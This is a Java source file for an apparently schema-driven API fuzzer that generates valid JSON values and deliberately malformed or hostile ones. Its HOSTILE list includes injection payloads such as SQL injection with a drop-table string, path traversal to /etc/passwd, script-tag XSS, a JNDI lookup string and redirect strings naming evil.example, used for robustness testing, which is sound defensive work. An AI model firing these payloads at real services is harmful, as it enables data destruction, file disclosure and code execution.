package dev.connectionmanager.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Random;
import java.util.UUID;

/** Values that fit a schema of the description, and values that fit none. */
final class Values {
    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
    private static final int DEEPEST = 6;

    private static final List<String> ADDRESSES = List.of(
            "https://fuzz.supplier.co.uk/callback",
            "https://fuzz.supplier.co.uk:8443/a/b?c=d",
            "http://127.0.0.1:8000/callback",
            "org.example.app:/callback",
            "https://keys.supplier.co.uk/jwks");
    private static final List<String> HOSTILE = List.of(
            "",
            " ",
            "\u0000",
            "a\u0000b",
            "\ud800",
            "\u202etxt.exe",
            "\ufeff",
            "null",
            "-1",
            "9999999999999999999999",
            "1e400",
            "../../etc/passwd",
            "%00",
            "%",
            "' or 1=1 --",
            "\"; drop table team; --",
            "<script>alert(1)</script>",
            "${jndi:ldap://x.example/a}",
            "{inject}",
            "javascript:alert(1)",
            "https://a@b@evil.example/",
            "https://[::1/",
            "https://xn--/",
            "//evil.example",
            "0000-00-00T00:00:00Z",
            "+999999999-12-31T23:59:59.999999999Z",
            "00000000-0000-0000-0000-000000000000",
            "1-1-1-1-1",
            "\t\r\n",
            "x".repeat(300),
            "é".repeat(5_000));

    private final JsonNode document;
    private final Random random;

    Values(JsonNode document, Random random) {
        this.document = document;
        this.random = random;
    }

    /** A value that the schema allows, as far as it can be told from the schema alone. */
    JsonNode fitting(JsonNode schema) {
        return fitting(schema, 0);
    }

    private JsonNode fitting(JsonNode given, int depth) {
        var schema = resolved(given);
        if (schema.has("const")) {
            return schema.get("const");
        }
        if (schema.has("enum")) {
            return one(schema.get("enum"));
        }
        for (var choice : List.of("oneOf", "anyOf")) {
            if (schema.has(choice)) {
                return fitting(one(schema.get(choice)), depth);
            }
        }
        var type = schema.path("type");
        return switch (type.isArray() ? one(type).asText() : type.asText()) {
            case "object" -> object(schema, depth);
            case "array" -> array(schema, depth);
            case "integer" -> JSON.numberNode(schema.path("minimum").asInt(0) + random.nextInt(3));
            case "number" -> JSON.numberNode(random.nextDouble());
            case "boolean" -> JSON.booleanNode(random.nextBoolean());
            case "null" -> JSON.nullNode();
            case "string" -> JSON.textNode(text(schema));
            default -> JSON.textNode("anything");
        };
    }

    private JsonNode object(JsonNode schema, int depth) {
        var made = JSON.objectNode();
        var required = schema.path("required").toString();
        schema.path("properties").properties().forEach(member -> {
            if (required.contains('"' + member.getKey() + '"') || depth < DEEPEST && random.nextInt(3) == 0) {
                made.set(member.getKey(), fitting(member.getValue(), depth + 1));
            }
        });
        return made;
    }

    private ArrayNode array(JsonNode schema, int depth) {
        var made = JSON.arrayNode();
        var size = Math.max(schema.path("minItems").asInt(0), random.nextInt(3));
        for (int i = 0; i < size; i++) {
            made.add(fitting(schema.path("items"), depth + 1));
        }
        return made;
    }

    private String text(JsonNode schema) {
        return switch (schema.path("format").asText()) {
            case "uuid" -> new UUID(random.nextLong(), random.nextLong()).toString();
            case "email" -> "fuzz" + random.nextInt(1_000) + "@supplier.example";
            case "date-time" ->
                Instant.ofEpochSecond(1_800_000_000L + random.nextInt(10_000_000))
                        .toString();
            case "date" -> LocalDate.ofEpochDay(20_900 + random.nextInt(500)).toString();
            case "uri", "uri-reference" -> ADDRESSES.get(random.nextInt(ADDRESSES.size()));
            default ->
                random.nextInt(2) == 0
                        ? ADDRESSES.get(random.nextInt(ADDRESSES.size()))
                        : "Fuzz " + random.nextInt(1_000);
        };
    }

    String hostileText() {
        return HOSTILE.get(random.nextInt(HOSTILE.size()));
    }

    /** Of any type. */
    JsonNode hostile() {
        return switch (random.nextInt(9)) {
            case 0 -> JSON.numberNode(Long.MIN_VALUE);
            case 1 -> JSON.numberNode(new java.math.BigDecimal("1e400"));
            case 2 -> JSON.booleanNode(true);
            case 3 -> JSON.nullNode();
            case 4 -> JSON.arrayNode().add(JSON.arrayNode().add(hostileText()));
            case 5 -> JSON.objectNode().put(hostileText(), hostileText());
            default -> JSON.textNode(hostileText());
        };
    }

    /** The same with one thing in it changed, taken away, or added. */
    JsonNode spoilt(JsonNode whole) {
        if (whole instanceof ObjectNode object && !object.isEmpty()) {
            var copy = object.deepCopy();
            var names = new java.util.ArrayList<String>();
            copy.fieldNames().forEachRemaining(names::add);
            var name = names.get(random.nextInt(names.size()));
            switch (random.nextInt(4)) {
                case 0 -> copy.remove(name);
                case 1 -> copy.set("made_up" + random.nextInt(3), hostile());
                case 2 -> copy.set(name, hostile());
                default -> copy.set(name, spoilt(copy.get(name)));
            }
            return copy;
        }
        if (whole instanceof ArrayNode array && !array.isEmpty()) {
            var copy = array.deepCopy();
            var place = random.nextInt(copy.size());
            if (random.nextInt(3) == 0) {
                copy.add(copy.get(place));
            } else {
                copy.set(place, spoilt(copy.get(place)));
            }
            return copy;
        }
        return hostile();
    }

    JsonNode resolved(JsonNode node) {
        return node.has("$ref") ? document.at(node.get("$ref").asText().substring(1)) : node;
    }

    private JsonNode one(JsonNode list) {
        return list.get(random.nextInt(list.size()));
    }
}
